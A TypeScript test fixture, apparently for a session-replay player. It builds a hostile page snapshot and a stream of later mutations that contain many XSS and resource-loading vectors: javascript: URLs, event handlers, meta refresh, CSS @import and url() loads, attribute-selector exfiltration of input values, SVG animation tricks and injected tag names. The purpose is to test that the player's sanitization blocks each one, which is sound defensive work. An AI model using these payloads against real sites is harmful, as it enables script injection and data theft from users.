// A hostile page's stream, made by hand: every way known to us to make a browser ask for something or run something.
// Each `evil()` is another address, so that a request tells which place let it out.

import type { Page } from 'puppeteer';
import { describe } from 'vitest';

export type Node = Record<string, unknown>;
let lastId = 0;
export const text = (textContent: string): Node => ({ type: 3, id: ++lastId, textContent });
export const element = (
  tagName: string,
  attributes: Record<string, unknown> = {},
  childNodes: Node[] = [],
  more: Node = {},
): Node => ({
  type: 2,
  id: ++lastId,
  tagName,
  attributes,
  childNodes,
  ...more,
});
export const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = []) =>
  element(tagName, attributes, childNodes, { isSVG: true });

export function hostile(evil: (what: string) => string): { head: Node[]; body: Node[] } {
  const js = 'javascript:parent.HACKED=1;top.HACKED=1';
  const run = 'parent.HACKED=1;top.HACKED=1';
  const css = (name: string) => `#c{background:url(${evil(`css-${name}`)})}`;
  const urls = (tag: string, ...names: string[]) =>
    names.map((name) => element(tag, { [name]: evil(`${tag}-${name}`), rel: 'stylesheet', type: 'text/css' }));
  const head = [
    element('base', { href: evil('base'), target: '_top' }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil('refresh')}` }),
    element('meta', { content: `0;url=${evil('refresh-2')}`, 'http-equiv': 'REFRESH' }),
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${evil('csp')}` }),
    element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    element('meta', { name: 'viewport', 'http-equiv': 'refresh', content: `0;url=${evil('refresh-3')}` }),
    ...[
      'stylesheet',
      'alternate stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'manifest',
      'prerender',
      'expect',
      'import',
      'apple-touch-icon',
      'pingback',
      'Stylesheet X',
    ].flatMap((rel) => [
      element('link', {
        rel,
        href: evil(`link-${rel.replace(/ /g, '')}`),
        as: 'image',
        imagesrcset: evil('imagesrcset'),
      }),
      element('link', { href: evil(`link2-${rel.replace(/ /g, '')}`), as: 'script', rel }),
    ]),
    element('script', { src: evil('script') }, [text(run)]),
    element('script', { type: 'module', src: evil('module') }, [text(run)]),
    element('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${evil('speculation')}"]}]}`)]),
    element('script', { type: 'importmap' }, [text(`{"imports":{"a":"${evil('importmap')}"}}`)]),
    element('noscript', {}, [
      text(`<img src="${evil('noscript')}"><meta http-equiv=refresh content="0;url=${evil('noscript-refresh')}">`),
    ]),
    element('style', {
      _cssText: `@import url(${evil('import')});@import "${evil('import-2')}" screen;${css('text')}`,
    }),
    element('style', { _cssText: `@import url("data:text/css,${encodeURIComponent(css('data-import'))}");` }),
    element('style', {}, [text(`@import '${evil('import-3')}';${css('child')}`)]),
    element('link', {
      _cssText: `@IMPORT "${evil('import-4')}";${css('link')}`,
      rel: 'stylesheet',
      href: evil('link-css'),
    }),
    element('style', {
      _cssText: [
        `@font-face{font-family:evil;src:url(${evil('font')})}#c{font-family:evil}`,
        `#c{background:image-set("${evil('image-set')}" 1x)}`,
        `#c{--e:"${evil('var-set')}";border-image:image-set(var(--e) 1x)}`,
        `#c{--i:image-set("${evil('var-set-2')}" 1x);list-style-image:var(--i)}`,
        `#c{mask:u\\72l(${evil('escaped')})}`,
        `#c{cursor:url('${evil('cursor')}'),auto;filter:url(${evil('filter')}#a);clip-path:url(${evil('clip')}#a)}`,
        `#c::before{content:url(${evil('content')})}`,
        `input[value^="s"]{background:url(${evil('exfil')})}input[\\:value^="s"]{background:url(${evil('exfil-2')})}`,
        `@property --p{syntax:"<image>";inherits:false;initial-value:url(${evil('property')})}#c{background-image:var(--p)}`,
        `#c{background:src("${evil('src')}")}#c{background:image("${evil('image')}")}#c{background:cross-fade(url(${evil('fade')}) 50%,red)}`,
        `#c{shape-outside:url(${evil('shape')});float:left;offset-path:url(${evil('offset')}#p);-webkit-mask-box-image:url(${evil('box')})}`,
        `@media all{#c{background:url("${evil('media')}")}}@supports (a:b){}@layer x{#c{background:url(${evil('layer')})}}`,
        `@keyframes k{from{background:url(${evil('frames')})}}#c{animation:k 1s infinite}`,
        `#c{background-image:attr(data-url type(<url>));content:attr(data-url url)}`,
        `@namespace url(${evil('namespace')});@page{background:url(${evil('page')})}`,
      ].join('\n'),
    }),
  ];
  const body = [
    element(
      'div',
      {
        id: 'c',
        'data-url': evil('attr'),
        style: `background:url(${evil('style')});border-image-source:image-set("${evil('style-set')}" 1x)`,
      },
      [text('c')],
    ),
    element('input', { value: 'secret', type: 'text' }),
    ...urls('img', 'src', 'srcset', 'lowsrc', 'dynsrc', 'longdesc', 'attributionsrc'),
    element('img', { src: evil('img-js'), onload: run, onerror: run }),
    element('img', { src: 'x', onerror: run, crossorigin: '' }),
    element('picture', {}, [
      element('source', { srcset: `${evil('source')} 2x, ${evil('source-2')} 3x` }),
      element('img', { src: evil('picture') }),
    ]),
    ...urls('video', 'src', 'poster'),
    ...urls('audio', 'src'),
    element('video', { autoplay: '' }, [
      element('source', { src: evil('video-source'), type: 'video/mp4' }),
      element('track', { src: evil('track'), default: '', kind: 'captions' }),
    ]),
    element('iframe', { src: evil('iframe') }),
    element('iframe', { src: js }),
    element('iframe', { srcdoc: `<script>${run}</script><img src="${evil('srcdoc')}">` }),
    element('iframe', {
      rr_src: evil('rr-src'),
      loading: 'lazy',
      allow: 'autoplay',
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
    }),
    element('frame', { src: evil('frame') }),
    element('object', { data: evil('object'), type: 'text/html' }, [element('embed', { src: evil('object-embed') })]),
    element('embed', { src: evil('embed'), type: 'image/png' }),
    element('applet', { code: evil('applet'), archive: evil('archive') }),
    element('portal', { src: evil('portal') }),
    element('fencedframe', { src: evil('fenced') }),
    element('form', { action: evil('form'), autofocus: '' }, [
      element('input', { type: 'image', src: evil('input-image'), formaction: evil('formaction') }),
      element('input', { autofocus: '', onfocus: run }),
      element('button', { formaction: js, autofocus: '' }),
    ]),
    element('a', { href: evil('a'), ping: evil('ping'), attributionsrc: evil('a-attribution'), target: '_top' }, [
      text('a'),
    ]),
    element('a', { href: js }, [text('js')]),
    element('table', { background: evil('table') }, [element('td', { background: evil('td') })]),
    element('body', { background: evil('body'), onload: run }),
    element('html', { manifest: evil('manifest') }),
    element('marquee', { onstart: run, behavior: 'alternate' }, [text('m')]),
    element('details', { open: '', ontoggle: run }, [element('summary', {}, [text('s')])]),
    element('input', { type: 'text', onfocus: run, autofocus: '' }),
    element('div', { 'on click': run, '"><script>': run, __proto__: run, constructor: run }, [text('names')]),
    element('script><img src=x onerror=alert(1)>', {}, [text(run)]),
    element(
      'x-host',
      {},
      [
        element('style', { _cssText: `:host{background:url(${evil('shadow')})}` }, [], { isShadow: true }),
        element('img', { src: evil('shadow-img') }, [], { isShadow: true }),
      ],
      { isShadowHost: true },
    ),
    element('template', { shadowrootmode: 'open' }, [element('img', { src: evil('template') })]),
    svg('svg', { onload: run, viewBox: '0 0 9 9' }, [
      svg('image', { href: evil('svg-image'), 'xlink:href': evil('svg-xlink'), width: '9', height: '9' }),
      svg('use', { href: `${evil('use')}#a` }),
      svg('use', { 'xlink:href': `${evil('use-xlink')}#a` }),
      svg('use', {
        href: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" id="a"><image href="http://localhost/evil/"/></svg>#a',
      }),
      svg('script', { href: evil('svg-script') }, [text(run)]),
      svg('script', { 'xlink:href': evil('svg-script-xlink') }),
      svg('a', { 'xlink:href': js, href: js }, [svg('text', {}, [text('a')])]),
      svg('rect', {
        width: '9',
        height: '9',
        fill: `url(${evil('fill')}#a)`,
        filter: `url("${evil('svg-filter')}#a")`,
        mask: `url(${evil('mask')}#m)`,
        'clip-path': `url(${evil('svg-clip')}#m)`,
        style: `fill:url(${evil('svg-style')})`,
        cursor: `url(${evil('svg-cursor')})`,
      }),
      svg('rect', { fill: `u\\72l(${evil('svg-escaped')}#a)` }),
      svg('filter', { id: 'f' }, [svg('feimage', { href: evil('feimage'), 'xlink:href': evil('feimage-xlink') })]),
      svg('rect', { width: '9', height: '9', filter: 'url(#f)' }),
      svg('lineargradient', { href: `${evil('gradient')}#a` }),
      svg('textpath', { href: `${evil('textpath')}#a` }, [text('t')]),
      svg('image', { width: '9', height: '9', href: '' }, [
        svg('set', { attributeName: 'href', to: evil('set-href'), begin: '0s' }),
        svg('animate', { attributename: 'xlink:href', values: `${evil('animate')};${evil('animate-2')}`, dur: '1s' }),
      ]),
      svg('rect', { width: '9', height: '9' }, [
        svg('set', { attributeName: 'fill', to: `url(${evil('set-fill')}#a)` }),
        svg('animate', { attributeName: 'style', to: `fill:url(${evil('animate-style')})`, dur: '1s' }),
        svg('set', { attributeName: 'onclick', to: run }),
      ]),
      svg('a', {}, [svg('animate', { attributeName: 'href', values: js, dur: '1s' })]),
      svg('style', { _cssText: `rect{fill:url(${evil('svg-css')}#a)}@import "${evil('svg-import')}";` }),
      svg('foreignobject', {}, [
        element('iframe', { src: evil('foreign') }),
        element('img', { src: evil('foreign-img') }),
      ]),
      svg('handler', {}, [text(run)]),
    ]),
    element('math', {}, [
      element('mglyph', { src: evil('mglyph') }),
      element('mi', { href: js, 'xlink:href': js }, [text('x')]),
    ]),
  ];
  return { head, body };
}
export function snapshotOf(origin: string, { head, body }: { head: Node[]; body: Node[] }): unknown[] {
  const tree = {
    type: 0,
    id: ++lastId,
    childNodes: [
      { type: 1, id: ++lastId, name: 'html', publicId: '', systemId: '' },
      element('html', {}, [element('head', {}, head), element('body', {}, body)]),
    ],
  };
  return [
    { type: 4, data: { href: `${origin}/page/evil`, width: 800, height: 600 }, timestamp: 1 },
    { type: 2, data: { node: tree, initialOffset: { left: 0, top: 0 } }, timestamp: 2 },
  ];
}

/** The same things, but coming later: as added nodes, as changed attributes, as rules, as keyframes. */
export function later(origin: string, events: unknown[], evil: (what: string) => string): unknown[] {
  const empty = element('div');
  const shell = snapshotOf(origin, { head: [], body: [empty] });
  const changes: unknown[] = [];
  const { head, body } = hostile(evil);
  const mutation = (data: object) =>
    changes.push({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data } });
  for (const node of [...head, ...body]) {
    // Attributes one by one, each on an element that was harmless when it was made.
    const attributes = node.attributes as Record<string, unknown>;
    mutation({ adds: [{ parentId: empty.id, nextId: null, node: { ...node, attributes: {} } }] });
    for (const name of Object.keys(attributes))
      mutation({ attributes: [{ id: node.id, attributes: { [name]: attributes[name] } }] });
    for (const name of [
      'src',
      'href',
      'xlink:href',
      'srcset',
      'data',
      'poster',
      'srcdoc',
      'action',
      'rel',
      'style',
      '_cssText',
      'http-equiv',
      'content',
      'onclick',
      'rr_dataURL',
      'rr_src',
    ])
      mutation({
        attributes: [
          {
            id: node.id,
            attributes: {
              [name]:
                name === 'rel'
                  ? 'stylesheet'
                  : name === '_cssText'
                    ? `@import "${evil('late-css')}";`
                    : evil(`late-${name}`),
            },
          },
        ],
      });
    mutation({
      attributes: [
        {
          id: node.id,
          attributes: {
            style: {
              'background-image': `url(${evil('style-object')})`,
              '--x': [`url(${evil('style-object-2')})`, 'important'],
              'border-image-source': `image-set("${evil('style-set-object')}" 1x)`,
            },
          },
        },
      ],
    });
  }
  const sheet = element('style', { _cssText: '#x{}@media all{#x{}}' });
  mutation({ adds: [{ parentId: empty.id, nextId: null, node: sheet }] });
  const target = element('p', { id: 'c', style: '' }, [text('target')]);
  mutation({ adds: [{ parentId: empty.id, nextId: null, node: target }] });
  changes.push({
    type: 3,
    data: {
      source: 8,
      id: sheet.id,
      adds: [
        { rule: `#c{background:url(${evil('insert')})}`, index: 0 },
        { rule: `@import "${evil('insert-import')}"`, index: 0 },
        { rule: `#c{background:url(${evil('insert-nested')})}`, index: [2, 0] },
      ],
    },
  });
  changes.push({
    type: 3,
    data: {
      source: 13,
      id: sheet.id,
      index: [0],
      set: { property: 'background-image', value: `url(${evil('declaration')})`, priority: '' },
    },
  });
  changes.push({
    type: 3,
    data: {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `#c{background:url(${evil('adopted-wrong-host')})}`, index: 0 }] }],
    },
  });
  // Its document.
  const document = (shell[1] as { data: { node: { id: number } } }).data.node.id;
  changes.push({
    type: 3,
    data: {
      source: 15,
      id: document,
      styleIds: [2],
      styles: [
        {
          styleId: 2,
          rules: [
            { rule: `#c{background:url(${evil('adopted')})}`, index: 0 },
            { rule: `@import "${evil('adopted-import')}"`, index: 1 },
          ],
        },
      ],
    },
  });
  changes.push({ type: 3, data: { source: 8, styleId: 2, replaceSync: `#c{background:url(${evil('replace')})}` } });
  const keyframes = [
    { backgroundImage: `url(${evil('keyframe')})`, offset: 0 },
    {
      backgroundImage: `image-set("${evil('keyframe-set')}" 1x)`,
      'border-image-source': `url(${evil('keyframe-border')})`,
    },
  ];
  changes.push({
    type: 5,
    data: {
      tag: 'animation',
      payload: {
        id: target.id,
        keyframes,
        timing: { duration: 1000, iterations: 9 },
        currentTime: 10,
        playState: 'running',
      },
    },
  });
  changes.push(
    { type: 3, data: { source: 3, id: document, x: 'a', y: {} } },
    { type: 3, data: { source: 5, id: target.id, text: {}, isChecked: 'x' } },
    { type: 3 },
    { type: 5 },
    null,
    7,
    {
      type: 3,
      data: { source: 14, ranges: [{ start: target.id, startOffset: 99999, end: target.id, endOffset: -5 }] },
    },
  );
  events.push(...shell);
  return changes;
}

export async function settle(page: Page): Promise<void> {
  // Long enough for what was going to be asked for to have been asked for; not a time that anything is measured by.
  await page.evaluate(`new Promise((done) => setTimeout(done, 700))`);
}

/** Addresses that tell which place let them out; every call begins a series of its own. */
export function createEvil(): (host: string) => (what: string) => string {
  let turn = 0;
  return (host) => {
    turn++;
    let count = 0;
    return (what) => `${host}/evil/${turn}/${++count}/${what}`;
  };
}

/** The same tests under the console's policy, and without it: the mirror's own care is to be enough. */
export function underEachPolicy(tests: (csp: boolean, evilFrom: ReturnType<typeof createEvil>) => void): void {
  describe.each([
    ['under the policy', true],
    ['without the policy', false],
  ] as const)('%s', (_title, csp) => tests(csp, createEvil()));
}
